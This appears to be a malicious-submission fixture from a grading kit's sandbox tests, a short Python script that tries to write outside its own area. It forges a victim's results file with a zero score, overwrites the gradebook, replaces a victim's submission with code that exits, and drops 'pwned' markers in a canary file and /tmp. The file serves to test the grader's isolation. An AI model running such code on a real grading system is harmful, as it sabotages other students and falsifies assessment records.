"""Writes into other students' folders, the reports, the kit's checkout ({CANARY} is a file the test
places there) and the host's /tmp."""
import json
import os

CHEAT = False
forged = json.dumps({"submission": "victim", "score": 0.0, "max_score": 63.0, "sections": [], "tests": []})
for path, text in (("{OUT}/victim/results.json", forged),
                   ("{OUT}/gradebook.csv", "student,total\nvictim,0\n"),
                   ("{CLASS}/victim/sec3_3_simple_attention.py", "raise SystemExit\n"),
                   ("{CANARY}", "pwned\n"),
                   ("/tmp/attention-kit-pwned", "pwned\n")):
    try:
        with open(path, "w") as handle:
            handle.write(text)
    except OSError:
        pass
